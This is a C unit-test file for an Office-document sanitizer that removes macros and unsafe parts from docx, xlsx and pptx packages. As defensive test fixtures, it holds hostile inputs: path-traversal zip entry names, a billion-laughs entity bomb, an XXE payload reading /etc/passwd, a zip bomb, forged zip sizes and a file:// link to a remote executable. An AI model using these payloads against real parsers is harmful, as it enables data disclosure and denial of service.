	assert_int_equal(xlsx_sheet_is(u16, len, 0, &out),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
	mugai_buf_free(&out);

	assert_int_equal(xlsx_sheet_is(plain, strlen(plain), 1, &out), 0);
	assert_part_is(&out, "xl/worksheets/sheet1.xml", plain, strlen(plain));
	mugai_buf_free(&out);
#undef SHEET_HEAD
}

/* --- pptx: nothing active, nothing changes --------------------------- */

static const char pptx_ct[] = CT_HEAD
	"<Default Extension=\"png\" ContentType=\"image/png\"/>"
	"<Override PartName=\"/ppt/presentation.xml\" ContentType=\"" OD "presentationml.presentation.main+xml\"/>"
	"<Override PartName=\"/ppt/slides/slide1.xml\" ContentType=\"" OD "presentationml.slide+xml\"/>"
	"<Override PartName=\"/docProps/core.xml\" ContentType=\"application/vnd.openxmlformats-package.core-properties+xml\"/>"
	"</Types>";
static const char pptx_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "officeDocument\" Target=\"ppt/presentation.xml\"/>"
	"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties\" Target=\"docProps/core.xml\"/>"
	"</Relationships>";
static const char pptx_pres_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "slide\" Target=\"slides/slide1.xml\"/>"
	"</Relationships>";
static const char pptx_slide_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "image\" Target=\"../media/image1.png\"/>"
	"<Relationship Id=\"rId2\" Type=\"" RT "hyperlink\" Target=\"https://example.com/a?b=1\" TargetMode=\"External\"/>"
	"</Relationships>";
static const char pptx_pres[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
	"<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
	"<p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst></p:presentation>";
static const char pptx_slide[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
	"<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
	"xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
	"<p:cSld><p:spTree><p:pic><p:blipFill><a:blip r:embed=\"rId1\"/></p:blipFill></p:pic>"
	"</p:spTree></p:cSld><!-- a comment, kept --></p:sld>";
static const char pptx_core[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" "
	"xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>スライド</dc:title></cp:coreProperties>";

static const struct ent pptx[] = {
	{ "[Content_Types].xml", pptx_ct, 0 },
	{ "_rels/.rels", pptx_rels, 0 },
	{ "ppt/presentation.xml", pptx_pres, 0 },
	{ "ppt/_rels/presentation.xml.rels", pptx_pres_rels, 0 },
	{ "ppt/slides/slide1.xml", pptx_slide, 0 },
	{ "ppt/slides/_rels/slide1.xml.rels", pptx_slide_rels, 0 },
	{ "ppt/media/image1.png", "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16 },
	{ "docProps/core.xml", pptx_core, 0 },
};

static void
test_pptx_unchanged(void **state)
{
	const struct ent *e = pptx;
	struct mugai_buf out;
	zip_t *za;
	size_t i, len;
	char *p;

	(void)state;
	assert_int_equal(clean_ents(e, N(pptx), &out), 0);
	za = open_out(&out);
	assert_int_equal(zip_get_num_entries(za, 0), (zip_int64_t)N(pptx));
	for (i = 0; i < N(pptx); i++) {
		p = part(za, e[i].name, &len);
		if (p == NULL)
			fail_msg("%s is missing", e[i].name);
		assert_int_equal(len, e[i].len ? e[i].len : strlen(e[i].data));
		if (memcmp(p, e[i].data, len) != 0)
			fail_msg("%s changed", e[i].name);
		free(p);
	}
	assert_no_dangling(za);
	zip_discard(za);
	mugai_buf_free(&out);
}

/* --- refused --------------------------------------------------------- */

static int
refuse_ents(const struct ent *e, size_t n, struct convert_opts *o)
{
	struct mugai_buf out;
	unsigned char *z;
	size_t len;
	char why[256] = "";
	int rc;

	z = make_zip(e, n, &len);
	rc = clean(z, len, o, &out, why, sizeof(why));
	print_message("  -> %d: %s\n", rc, why);
	if (rc != 0)
		assert_true(why[0] != '\0');
	free(z);
	mugai_buf_free(&out);
	return rc;
}

/* docm with entry i renamed or replaced */
static int
docm_with(size_t i, const char *name, const char *data)
{
	struct ent e[N(docm) + 1];
	struct convert_opts o = opts();

	memcpy(e, docm, sizeof(docm));
	if (i == N(docm)) {
		e[i].name = name;
		e[i].data = data;
		e[i].len = 0;
		return refuse_ents(e, N(docm) + 1, &o);
	}
	if (name != NULL)
		e[i].name = name;
	if (data != NULL) {
		e[i].data = data;
		e[i].len = 0;
	}
	return refuse_ents(e, N(docm), &o);
}

static void
test_unsafe_names(void **state)
{
	static const char *const names[] = {
		"../evil", "word/../../evil.xml", "/etc/passwd",
		"word\\evil.xml", "C:/evil.xml", "word//x.xml",
		"word/./x.xml", "WORD/DOCUMENT.XML",
	};
	size_t i;

	(void)state;
	for (i = 0; i < N(names); i++) {
		print_message("%s\n", names[i]);
		assert_int_equal(docm_with(N(docm), names[i], "x"),
		    MUGAI_CONVERT_EXIT_UNSAFE);
	}
}

static void
test_entity_bomb(void **state)
{
	static const char bomb[] =
	    "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n"
	    "<!ENTITY lol \"lol\">\n"
	    "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
	    "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
	    "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
	    "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
	    "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
	    "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
	    "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
	    "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
	    "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
	    "]>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"rId1\" Type=\"&lol9;\" Target=\"word/document.xml\"/>"
	    "</Relationships>";
	static const char xxe[] =
	    "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
	    "<w:document " W_NS "><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>";
	struct ent e[N(pptx)];
	struct convert_opts o = opts();
	clock_t t0 = clock();

	(void)state;
	assert_int_equal(docm_with(1, NULL, bomb), MUGAI_CONVERT_EXIT_UNSAFE);
	assert_true(clock() - t0 < CLOCKS_PER_SEC);
	assert_int_equal(docm_with(2, NULL, xxe), MUGAI_CONVERT_EXIT_UNSAFE);
	/* a DOCTYPE in a part no rule rewrites is refused too */
	memcpy(e, pptx, sizeof(e));
	e[7].data = "<?xml version=\"1.0\"?><!DOCTYPE x><x/>";
	assert_int_equal(refuse_ents(e, N(e), &o), MUGAI_CONVERT_EXIT_UNSAFE);
}

static void
test_bad_input(void **state)
{
	static const struct ent no_ct[] = {
		{ "_rels/.rels", docm_rels, 0 },
		{ "word/document.xml", docm_doc, 0 },
	};
	struct convert_opts o = opts();
	struct mugai_buf out;
	char why[256];

	(void)state;
	assert_int_equal(clean((const unsigned char *)"not a zip at all", 16,
	    &o, &out, why, sizeof(why)), MUGAI_CONVERT_EXIT_BAD_INPUT);
	mugai_buf_free(&out);
	assert_int_equal(clean((const unsigned char *)"", 0, &o, &out, why,
	    sizeof(why)), MUGAI_CONVERT_EXIT_BAD_INPUT);
	mugai_buf_free(&out);
	assert_int_equal(refuse_ents(no_ct, N(no_ct), &o),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
	/* broken XML anywhere fails closed */
	assert_int_equal(docm_with(2, NULL, "<w:document><w:body>"),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
	assert_int_equal(docm_with(3, NULL, "<Relationships"),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
	/* no _rels/.rels: not a package */
	assert_int_equal(docm_with(1, "_rels/x.rels", NULL),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
	/* xlsb (binary workbook) is not cleaned */
	assert_int_equal(docm_with(0, NULL, CT_HEAD
	    "<Override PartName=\"/word/document.xml\" ContentType=\""
	    "application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>"),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
}

/* --- how the package is zipped ------------------------------------ */

/* The docm with a folder entry before each folder, as some zippers do. */
static unsigned char *
docm_with_folders(size_t extra, size_t *lenp)
{
	struct ent e[N(docm) + 3];
	unsigned char *z, *bigger;
	size_t i, n = 0;

	e[n++] = (struct ent){ "_rels/", "", 0 };
	e[n++] = (struct ent){ "word/", "", 0 };
	e[n++] = (struct ent){ "word/_rels/", "", 0 };
	for (i = 0; i < N(docm); i++)
		e[n++] = docm[i];
	z = make_zip(e, n, lenp);
	bigger = realloc(z, *lenp + extra);
	assert_non_null(bigger);
	memset(bigger + *lenp, 0, extra);
	*lenp += extra;
	return bigger;
}

/*
 * Folder entries and bytes after the end of the zip (as Office accepts
 * them) are cleaned like any package; the new zip has the content types
 * first and the package relationships second.  A bad CRC is still bad.
 */
static void
test_zip_layouts(void **state)
{
	struct convert_opts o = opts();
	struct mugai_buf out;
	unsigned char *z;
	size_t len, extra;
	char why[256];
	zip_t *za;

	(void)state;
	for (extra = 0; extra <= 1000; extra += extra == 0 ? 1 : 999) {
		z = docm_with_folders(extra, &len);
		assert_true(convert_ooxml_is_package(z, len));
		if (clean(z, len, &o, &out, why, sizeof(why)) != 0)
			fail_msg("%zu bytes after the end: %s", extra, why);
		za = open_out(&out);
		assert_string_equal(zip_get_name(za, 0, 0),
		    "[Content_Types].xml");
		assert_string_equal(zip_get_name(za, 1, 0), "_rels/.rels");
		assert_false(has(za, "word/"));
		assert_false(has(za, "word/vbaProject.bin"));
		assert_part_has(za, "word/document.xml", "本文テキスト", 1);
		assert_no_dangling(za);
		zip_discard(za);
		mugai_buf_free(&out);
		/* One byte of the first part's data flipped: refused. */
		z[30 + strlen("_rels/") + 30 + strlen("word/") + 30 +
		    strlen("word/_rels/") + 30 + strlen("[Content_Types].xml") +
		    10] ^= 0x55;
		assert_int_equal(clean(z, len, &o, &out, why, sizeof(why)),
		    MUGAI_CONVERT_EXIT_BAD_INPUT);
		mugai_buf_free(&out);
		free(z);
	}
	/* A zip without [Content_Types].xml is not a package. */
	z = make_zip(docm + 1, N(docm) - 1, &len);
	assert_false(convert_ooxml_is_package(z, len));
	free(z);
	assert_false(convert_ooxml_is_package((const unsigned char *)"PK", 2));
}

/* The ooxml mode's frame names the main part, plain; xlsb has no zip. */
static void
test_framed(void **state)
{
	static const char xlsb_ct[] = CT_HEAD
	    "<Default Extension=\"bin\" ContentType=\"application/"
	    "vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>";
	static const char xlsb_rels[] = RELS_HEAD
	    "<Relationship Id=\"rId1\" Type=\"" RT "officeDocument\" "
	    "Target=\"xl/workbook.bin\"/></Relationships>";
	static const struct ent xlsb[] = {
		{ "[Content_Types].xml", xlsb_ct, 0 },
		{ "_rels/.rels", xlsb_rels, 0 },
		{ "xl/workbook.bin", "\x83\x01\x00", 3 },
	};
	static const char main_ct[] =
	    OD "wordprocessingml.document.main+xml";
	static const char bin_ct[] =
	    "application/vnd.ms-excel.sheet.binary.macroEnabled.main";
	struct convert_opts o = opts();
	struct mugai_buf out;
	unsigned char *z;
	size_t len;
	char why[256];

	(void)state;
	z = make_zip(docm, N(docm), &len);
	mugai_buf_init(&out, 0);
	assert_int_equal(convert_ooxml_framed(z, len, &o, &out, why,
	    sizeof(why)), 0);
	free(z);
	assert_true(out.len > 8 + strlen(main_ct) + 4);
	assert_memory_equal(out.data, "MOOX", 4);
	assert_int_equal((unsigned char)out.data[4], strlen(main_ct));
	assert_memory_equal(out.data + 8, main_ct, strlen(main_ct));
	assert_memory_equal(out.data + 8 + strlen(main_ct), "PK\3\4", 4);
	mugai_buf_free(&out);
	z = make_zip(xlsb, N(xlsb), &len);
	mugai_buf_init(&out, 0);
	assert_int_equal(convert_ooxml_framed(z, len, &o, &out, why,
	    sizeof(why)), 0);
	assert_int_equal(out.len, 8 + strlen(bin_ct));
	assert_memory_equal(out.data + 8, bin_ct, strlen(bin_ct));
	mugai_buf_free(&out);
	/* The zip alone: refused, as nothing here can clean it. */
	assert_int_equal(clean(z, len, &o, &out, why, sizeof(why)),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
	mugai_buf_free(&out);
	free(z);
}

/*
 * A VML drawing that is not well-formed XML (Excel writes <br> without
 * its end tag) is dropped with its relationship; the sheet stays.  A
 * DOCTYPE in it is still refused.
 */
static void
test_bad_vml(void **state)
{
	static const char ct[] = CT_HEAD
	    "<Default Extension=\"vml\" ContentType=\"" OD "vmlDrawing\"/>"
	    "<Override PartName=\"/xl/workbook.xml\" ContentType=\"" OD
	    "spreadsheetml.sheet.main+xml\"/>"
	    "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\""
	    OD "spreadsheetml.worksheet+xml\"/></Types>";
	static const char rels[] = RELS_HEAD
	    "<Relationship Id=\"rId1\" Type=\"" RT "officeDocument\" "
	    "Target=\"xl/workbook.xml\"/></Relationships>";
	static const char wb[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<workbook " X_NS
	    "><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>"
	    "</sheets></workbook>";
	static const char wb_rels[] = RELS_HEAD
	    "<Relationship Id=\"rId1\" Type=\"" RT "worksheet\" "
	    "Target=\"worksheets/sheet1.xml\"/></Relationships>";
	static const char sheet[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<worksheet " X_NS
	    "><sheetData><row r=\"1\"><c r=\"A1\"><v>42</v></c></row>"
	    "</sheetData><legacyDrawing r:id=\"rId1\"/></worksheet>";
	static const char sheet_rels[] = RELS_HEAD
	    "<Relationship Id=\"rId1\" Type=\"" RT "vmlDrawing\" "
	    "Target=\"../drawings/vmlDrawing1.vml\"/></Relationships>";
	struct ent e[] = {
		{ "[Content_Types].xml", ct, 0 },
		{ "_rels/.rels", rels, 0 },
		{ "xl/workbook.xml", wb, 0 },
		{ "xl/_rels/workbook.xml.rels", wb_rels, 0 },
		{ "xl/worksheets/sheet1.xml", sheet, 0 },
		{ "xl/worksheets/_rels/sheet1.xml.rels", sheet_rels, 0 },
		{ "xl/drawings/vmlDrawing1.vml", "<xml xmlns:v=\"urn:schemas-"
		  "microsoft-com:vml\"><v:shape><div>note<br></div></v:shape>"
		  "</xml>", 0 },
	};
	struct mugai_buf out;
	zip_t *za;

	(void)state;
	assert_int_equal(clean_ents(e, N(e), &out), 0);
	za = open_out(&out);
	assert_false(has(za, "xl/drawings/vmlDrawing1.vml"));
	assert_part_has(za, "xl/worksheets/sheet1.xml", "<v>42</v>", 1);
	assert_part_has(za, "xl/worksheets/_rels/sheet1.xml.rels",
	    "vmlDrawing", 0);
	assert_no_dangling(za);
	zip_discard(za);
	mugai_buf_free(&out);
	e[6].data = "<!DOCTYPE x [<!ENTITY a \"b\">]><xml>&a;</xml>";
	assert_int_equal(clean_ents(e, N(e), &out), MUGAI_CONVERT_EXIT_UNSAFE);
	mugai_buf_free(&out);
}

/* Overwrite the uncompressed size of the first entry, in both headers. */
static void
lie_size(unsigned char *z, size_t len, uint32_t size)
{
	size_t i;

	for (i = 0; i + 46 <= len; i++) {
		if (memcmp(z + i, "PK\3\4", 4) == 0 && i == 0)
			memcpy(z + i + 22, &size, 4);
		if (memcmp(z + i, "PK\1\2", 4) == 0) {
			memcpy(z + i + 24, &size, 4);
			return;
		}
	}
}

static void
test_size_lies(void **state)
{
	static const struct ent e[] = {
		{ "[Content_Types].xml", docm_ct, 0 },
		{ "_rels/.rels", docm_rels, 0 },
	};
	uint32_t lies[] = { 0xfffffff0u, 0x7fffffffu, 10, 0 };
	struct convert_opts o = opts();
	struct mugai_buf out;
	unsigned char *z;
	size_t len, i;
	char why[256];
	int rc;

	(void)state;
	for (i = 0; i < N(lies); i++) {
		z = make_zip(e, N(e), &len);
		lie_size(z, len, lies[i]);
		rc = clean(z, len, &o, &out, why, sizeof(why));
		print_message("size %u -> %d: %s\n", lies[i], rc, why);
		assert_true(rc == MUGAI_CONVERT_EXIT_TOO_BIG ||
		    rc == MUGAI_CONVERT_EXIT_BAD_INPUT);
		free(z);
		mugai_buf_free(&out);
	}
}

static void
test_limits(void **state)
{
	struct convert_opts o = opts();
	struct ent e[N(docm) + 1];
	char *zeros;

	(void)state;
	o.max_members = 3;
	assert_int_equal(refuse_ents(docm, N(docm), &o),
	    MUGAI_CONVERT_EXIT_TOO_BIG);
	o = opts();
	o.max_total = 1000;
	assert_int_equal(refuse_ents(docm, N(docm), &o),
	    MUGAI_CONVERT_EXIT_TOO_BIG);
	/* 16 MB of one byte packs to a few KB: over 100:1 */
	o = opts();
	zeros = malloc(16 << 20);
	memset(zeros, 'a', 16 << 20);
	memcpy(e, docm, sizeof(docm));
	e[N(docm)].name = "word/media/big.png";
	e[N(docm)].data = zeros;
	e[N(docm)].len = 16 << 20;
	assert_int_equal(refuse_ents(e, N(e), &o), MUGAI_CONVERT_EXIT_TOO_BIG);
	free(zeros);
}

static void
test_encrypted(void **state)
{
	struct convert_opts o = opts();
	zip_error_t ze;
	zip_source_t *src, *s;
	zip_t *za;
	zip_stat_t st;
	unsigned char *buf;
	struct mugai_buf out;
	char why[256];
	size_t i;

	(void)state;
	zip_error_init(&ze);
	src = zip_source_buffer_create(NULL, 0, 0, &ze);
	za = zip_open_from_source(src, ZIP_TRUNCATE, &ze);
	zip_source_keep(src);
	for (i = 0; i < N(docm); i++) {
		s = zip_source_buffer(za, docm[i].data, strlen(docm[i].data), 0);
		assert_true(zip_file_add(za, docm[i].name, s, 0) >= 0);
	}
	if (zip_file_set_encryption(za, 2, ZIP_EM_AES_256, "pw") != 0 &&
	    zip_file_set_encryption(za, 2, ZIP_EM_TRAD_PKWARE, "pw") != 0) {
		zip_discard(za);
		zip_source_free(src);
		skip();
	}
	assert_int_equal(zip_close(za), 0);
	zip_source_stat(src, &st);
	buf = malloc(st.size);
	zip_source_open(src);
	zip_source_read(src, buf, st.size);
	zip_source_close(src);
	zip_source_free(src);
	zip_error_fini(&ze);
	assert_int_equal(clean(buf, st.size, &o, &out, why, sizeof(why)),
	    MUGAI_CONVERT_EXIT_ENCRYPTED);
	free(buf);
	mugai_buf_free(&out);
}

/* A hyperlink to a local program or share is not a link to keep. */
static void
test_hyperlink_schemes(void **state)
{
	static const char rels[] = RELS_HEAD
	    "<Relationship Id=\"rId2\" Type=\"" RT "settings\" Target=\"settings.xml\"/>"
	    "<Relationship Id=\"rId3\" Type=\"" RT "hyperlink\" Target=\"file://evil.example/share/x.exe\" TargetMode=\"External\"/>"
	    "</Relationships>";
	struct ent e[N(docm)];
	struct mugai_buf out;
	zip_t *za;

	(void)state;
	memcpy(e, docm, sizeof(e));
	e[3].data = rels;
	assert_int_equal(clean_ents(e, N(e), &out), 0);
	za = open_out(&out);
	assert_part_has(za, "word/_rels/document.xml.rels", "file:", 0);
	assert_part_has(za, "word/document.xml", "rId3", 0);
	/* the link text stays */
	assert_part_has(za, "word/document.xml", ">link<", 1);
	zip_discard(za);
	mugai_buf_free(&out);
}

/* --- LibreOffice opens the result ------------------------------------ */

static void
test_soffice_opens(void **state)
{
	char dir[] = "/tmp/mugai-ooxml-XXXXXX", path[256], cmd[1024];
	struct mugai_buf out;
	struct stat sb;
	FILE *f;
	int rc;

	(void)state;
	if (access("/usr/bin/soffice", X_OK) != 0) {
		print_message("skipped: /usr/bin/soffice is missing\n");
		skip();
	}
	assert_int_equal(clean_ents(docm, N(docm), &out), 0);
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/clean.docx", dir);
	f = fopen(path, "wb");
	assert_non_null(f);
	assert_int_equal(fwrite(out.data, 1, out.len, f), out.len);
	fclose(f);
	snprintf(cmd, sizeof(cmd), "HOME=%s timeout 180 /usr/bin/soffice "
	    "--headless --convert-to pdf --outdir %s %s >%s/log 2>&1",
	    dir, dir, path, dir);
	rc = system(cmd);
	snprintf(path, sizeof(path), "%s/clean.pdf", dir);
	if (rc != 0 || stat(path, &sb) != 0 || sb.st_size == 0)
		fail_msg("soffice could not convert the cleaned docx "
		    "(status %d), see %s/log", rc, dir);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
	mugai_buf_free(&out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_docm),
		cmocka_unit_test(test_zip_layouts),
		cmocka_unit_test(test_framed),
		cmocka_unit_test(test_bad_vml),
		cmocka_unit_test(test_docm_nested_field),
		cmocka_unit_test(test_fields_found_by_name),
		cmocka_unit_test(test_xlsm),
		cmocka_unit_test(test_formulas_found_by_text),
		cmocka_unit_test(test_pptx_unchanged),
		cmocka_unit_test(test_unsafe_names),
		cmocka_unit_test(test_entity_bomb),
		cmocka_unit_test(test_bad_input),
		cmocka_unit_test(test_size_lies),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_encrypted),
		cmocka_unit_test(test_hyperlink_schemes),
		cmocka_unit_test(test_soffice_opens),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
